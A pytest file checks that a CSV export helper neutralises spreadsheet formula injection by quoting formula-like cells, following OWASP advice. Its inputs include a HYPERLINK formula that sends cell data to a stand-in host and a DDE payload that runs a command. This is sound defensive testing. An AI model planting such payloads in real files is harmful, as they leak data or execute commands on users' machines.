"""CSV exports: a cell a spreadsheet would run as a formula is written as text (OWASP)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from common.csv_export import SafeCsvWriter, csv_safe_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")',
        "+84 912 345 678",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_like_value_is_prefixed_with_a_quote(value):
    assert csv_safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Nguyễn Thị Hoa", "Nguyễn Thị Hoa"),
        ("TCTN-2026-000601", "TCTN-2026-000601"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        (12, "12"),
        (-33.3, "-33.3"),
        (-7, "-7"),
        (Decimal("-1.50"), "-1.50"),
        (None, ""),
    ],
)
def test_other_values_are_written_as_they_are(value, written):
    assert csv_safe_cell(value) == written


def test_the_writer_escapes_every_cell_and_stays_valid_csv():
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["=1+1", 'Công ty "A", Hà Nội', "ok"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", 'Công ty "A", Hà Nội', "ok"]]
